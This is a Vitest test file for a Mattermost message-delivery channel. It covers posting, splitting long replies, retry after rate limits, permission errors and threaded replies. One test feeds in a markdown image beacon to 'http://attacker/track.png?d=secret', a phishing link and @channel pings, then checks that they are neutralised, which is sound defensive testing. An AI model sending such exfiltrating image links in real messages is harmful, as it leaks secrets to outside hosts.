import { afterEach, describe, expect, it } from 'vitest';
import { deliverText } from '../../src/channels/deliver.js';
import { mattermostChannel } from '../../src/channels/mattermost.js';
import { bodyOf, longText, recordingSleep, startFakeService, testDeps, words, type Answer, type FakeService, type Recorded } from './fake-service.js';

const TOKEN = 'mm-bot-secret-token';
const CHANNEL_ID = 'q3xtzmfk8jbw5e7r9ydh1pcuna';

function appError(status: number, id: string, message: string): Answer {
  return { status, json: { id, message, detailed_error: '', request_id: 'req1', status_code: status } };
}

/** POST /api/v4/posts as Mattermost checks it; rate limits come from its throttler as plain text + Retry-After. */
function mattermostApi(state: { rateLimited: number }) {
  return (request: Recorded): Answer => {
    if (request.method !== 'POST' || request.path !== '/api/v4/posts') return appError(404, 'api.context.404.app_error', 'Sorry, we could not find the page.');
    if (request.headers.authorization !== `Bearer ${TOKEN}`) return appError(401, 'api.context.session_expired.app_error', 'Invalid or expired session, please login again.');
    if (state.rateLimited > 0) {
      state.rateLimited -= 1;
      return { status: 429, headers: { 'retry-after': '1', 'x-ratelimit-remaining': '0' }, text: 'limit exceeded\n' };
    }
    const body = bodyOf(request);
    if (body['channel_id'] !== CHANNEL_ID) return appError(403, 'api.context.permissions.app_error', 'You do not have the appropriate permissions.');
    const message = body['message'];
    if (typeof message !== 'string' || [...message].length > 16383) return appError(400, 'model.post.is_valid.msg.app_error', 'Invalid message.');
    return { status: 201, json: { id: 'post1', channel_id: CHANNEL_ID, message } };
  };
}

describe('mattermost channel', () => {
  let service: FakeService | undefined;
  afterEach(async () => service?.close());

  async function setUp(rateLimited = 0) {
    service = await startFakeService(mattermostApi({ rateLimited }));
    return { service, channel: mattermostChannel.create({ baseUrl: service.baseUrl, botToken: TOKEN }, testDeps()) };
  }

  it('creates a post with channel_id and message', async () => {
    const { service, channel } = await setUp();
    expect(await deliverText(channel, CHANNEL_ID, 'build green')).toEqual({ status: 'delivered', channel: 'mattermost', to: CHANNEL_ID, parts: 1, attempts: 1 });
    expect(bodyOf(service.requests[0])).toEqual({ channel_id: CHANNEL_ID, message: 'build green' });
  });

  it('splits replies above 16383 characters', async () => {
    const { service, channel } = await setUp();
    const text = longText(80, 60);
    expect(await deliverText(channel, CHANNEL_ID, text)).toMatchObject({ status: 'delivered' });
    expect(service.requests.length).toBeGreaterThan(1);
    expect(words(service.requests.map((request) => String(bodyOf(request)['message'])).join(' '))).toEqual(words(text));
  });

  it('retries after the throttler Retry-After', async () => {
    const { channel } = await setUp(1);
    const { sleep, waits } = recordingSleep();
    expect(await deliverText(channel, CHANNEL_ID, 'hi', { sleep })).toMatchObject({ status: 'delivered', attempts: 2 });
    expect(waits).toEqual([1000]);
  });

  it('fails at once on a 403 AppError with its message and id', async () => {
    const { channel } = await setUp();
    const outcome = await deliverText(channel, 'other', 'hi', { sleep: recordingSleep().sleep });
    expect(outcome).toMatchObject({
      status: 'failed',
      attempts: 1,
      reason: 'mattermost: You do not have the appropriate permissions. [api.context.permissions.app_error] (HTTP 403)',
    });
  });

  it('answers in a thread: `<channel>#<post id>` becomes root_id', async () => {
    const { service, channel } = await setUp();
    expect(await deliverText(channel, `${CHANNEL_ID}#rootpost1234567890abcdefgh`, 'in thread')).toMatchObject({ status: 'delivered' });
    expect(bodyOf(service.requests[0])).toEqual({ channel_id: CHANNEL_ID, message: 'in thread', root_id: 'rootpost1234567890abcdefgh' });
  });

  it('never pings the channel, loads an image or hides a link target', async () => {
    const { service, channel } = await setUp();
    const text = '@channel @all @here look ![t](http://attacker/track.png?d=secret) and [bank](https://evil.example/login) or https://x.example/a';
    await deliverText(channel, CHANNEL_ID, text);
    expect(bodyOf(service.requests[0])).toEqual({
      channel_id: CHANNEL_ID,
      message: '@\u200Bchannel @\u200Ball @\u200Bhere look t (`http://attacker/track.png?d=secret`) and bank (`https://evil.example/login`) or `https://x.example/a`',
    });
  });

  it('with markup "allow", an agent reply is sent as written; a notify is neutralised anyway', async () => {
    service = await startFakeService(mattermostApi({ rateLimited: 0 }));
    const channel = mattermostChannel.create({ baseUrl: service.baseUrl, botToken: TOKEN, markup: 'allow' }, testDeps());
    await deliverText(channel, CHANNEL_ID, '@here ![chart](https://grafana.example/c.png)');
    await deliverText(channel, CHANNEL_ID, '@here ![chart](https://grafana.example/c.png)', { untrusted: true });
    expect(service.requests.map((request) => bodyOf(request)['message'])).toEqual([
      '@here ![chart](https://grafana.example/c.png)',
      '@\u200Bhere chart (`https://grafana.example/c.png`)',
    ]);
  });
});
